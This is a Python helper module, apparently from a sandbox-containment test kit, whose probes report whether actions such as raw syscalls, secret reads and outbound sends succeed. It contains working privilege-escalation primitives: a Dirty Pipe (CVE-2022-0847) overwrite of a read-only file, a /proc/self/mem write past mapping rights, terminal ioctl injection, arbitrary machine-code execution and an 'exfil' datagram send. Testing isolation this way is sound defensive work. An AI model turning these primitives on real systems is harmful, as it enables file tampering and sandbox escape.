"""The words in which probes are written: the first cell of a session, and of a control outside.

A probe is an expression or the body of a function. It gives a word: "open" when the thing could be
done, else how it was refused, which is mostly the name of an errno. Nothing in here may depend on
where it runs.

`T` (set before this is run) is what probe_target.py and probe_kit.py know about the outside.
"""
import ctypes
import errno
import fcntl
import glob
import mmap
import os
import resource
import select
import signal
import socket
import stat
import struct
import subprocess
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
OPEN = "open"


def word(error):
    return errno.errorcode.get(error.errno, "errno %s" % error.errno)


def sc(number, *args):
    """A raw system call. Numbers are passed as they are, with all 64 bits."""
    ctypes.set_errno(0)
    result = LIBC.syscall(ctypes.c_long(number), *(
        ctypes.c_ulong(arg & (1 << 64) - 1) if isinstance(arg, int) else arg for arg in args))
    if result < 0:
        raise OSError(ctypes.get_errno(), "system call %d" % number)
    return result


def call(number, *args, reached=()):
    """OPEN when the call works, or fails in one of the ways in which the kernel's own code does."""
    try:
        sc(number, *args)
    except OSError as error:
        return OPEN if word(error) in reached else word(error)
    return OPEN


def read(path, size=65536):
    data, fd = b"", os.open(path, os.O_RDONLY)
    try:
        while len(data) < size and (part := os.read(fd, size - len(data))):
            data += part
    finally:
        os.close(fd)
    return data


def reads(path):
    return OPEN if read(path) is not None else "empty"


def finds(path, what):
    """Whether a file holds the secret."""
    return OPEN if what.encode() in read(path, 1 << 20) else "absent"


def writes(path, flags=os.O_WRONLY):
    os.close(os.open(path, flags))
    return OPEN


def makes(path):
    """A new file, gone at once."""
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
    os.unlink(path)
    return OPEN


def lists(path):
    os.listdir(path)
    return OPEN


def fork(body):
    """Runs `body` in a child; what it gives, or the signal that ended it."""
    ours, theirs = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.write(theirs, tried(body).encode())
        finally:
            os._exit(0)
    os.close(theirs)
    status = os.waitpid(pid, 0)[1]
    text = os.read(ours, 4096).decode() if select.select([ours], [], [], 0)[0] else ""
    os.close(ours)
    if os.WIFSIGNALED(status):
        return signal.Signals(os.WTERMSIG(status)).name
    return text


def tried(body):
    """What a probe gives, with its errors as words."""
    try:
        return str(body())
    except socket.gaierror as error:
        return "gaierror%d" % error.errno
    except OSError as error:
        return word(error)
    except Exception as error:
        return type(error).__name__


def connects(family, kind, address, protocol=0):
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(20)
        sock.connect(address)
        sock.recv(16)
    return OPEN


def sends(sock, address):
    with sock:
        sock.sendto(b"exfil", address)
    return "sent"


def pair(kind):
    """One end of a pair, whose other end stays open as long as the process."""
    ends = socket.socketpair(socket.AF_UNIX, kind)
    KEPT.append(ends[1])
    return ends[0]


def limited(what, count):
    """Makes things until it is refused; OPEN when `count` of them could be had."""
    got = []
    try:
        while len(got) < count:
            got.append(what())
    except OSError as error:
        return word(error) if got else word(error) + "-at-once"
    finally:
        for item in got:
            os.close(item)
    return OPEN


def raise_limit(which):
    """The most that this process may have, so that a control is not stopped by a soft limit."""
    hard = resource.getrlimit(which)[1]
    resource.setrlimit(which, (hard, hard))


def machine_code(code):
    """Runs x86-64 code in a child; its result."""
    def body():
        memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        memory.write(code)
        address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        return OPEN if ctypes.CFUNCTYPE(ctypes.c_long)(address)() > 0 else "refused"
    return fork(body)


def terminal(request):
    """Asks something of a terminal of its own, which controls the child."""
    def body():
        os.setsid()
        master, slave = os.openpty()
        fcntl.ioctl(slave, 0x540E, 0)  # TIOCSCTTY
        sc(16, slave, request, ctypes.create_string_buffer(b"\2x"))
        return OPEN
    return fork(body)


def is_outside(fd):
    """Whether a descriptor is one that the test has left open."""
    try:
        status = os.fstat(fd)
    except OSError:
        return False
    return (status.st_dev, status.st_ino) in {tuple(item) for item in T["leaked"]}  # noqa: F821


def mapped_write(path, flags):
    """Writes to a file through its mapping, past the rights of the mapping (FOLL_FORCE); what the
    file holds then tells the test."""
    LIBC.mmap.restype = ctypes.c_void_p
    fd = os.open(path, os.O_RDONLY)
    place = LIBC.mmap(None, 4096, mmap.PROT_READ, flags, fd, ctypes.c_long(0))
    os.close(fd)
    with open("/proc/self/mem", "r+b", buffering=0) as mem:
        mem.seek(place)
        mem.write(b"changed")
    return OPEN if read(path, 7) == b"changed" else "unchanged"


def spliced_write(path):
    """A page of the file in a pipe, and then bytes behind it (CVE-2022-0847)."""
    ends = os.pipe()
    for _ in range(16):
        os.write(ends[1], bytes(4096))
        os.read(ends[0], 4096)
    fd = os.open(path, os.O_RDONLY)
    before = read(path)
    os.splice(fd, ends[1], 1, offset_src=0)
    os.write(ends[1], b"changed")
    for end in (fd, *ends):
        os.close(end)
    return "unchanged" if read(path) == before else OPEN


def open_descriptors():
    found = set()
    for fd in range(256):
        try:
            os.fstat(fd)
        except OSError:
            continue
        found.add(fd)
    return found


def attempt(body):
    """One probe; what it leaves open, and where it went to, is not the next one's."""
    before = open_descriptors()
    try:
        return tried(body)
    finally:
        KEPT.clear()
        os.chdir(START)
        for fd in open_descriptors() - before:
            os.close(fd)


KEPT, START = [], os.getcwd()
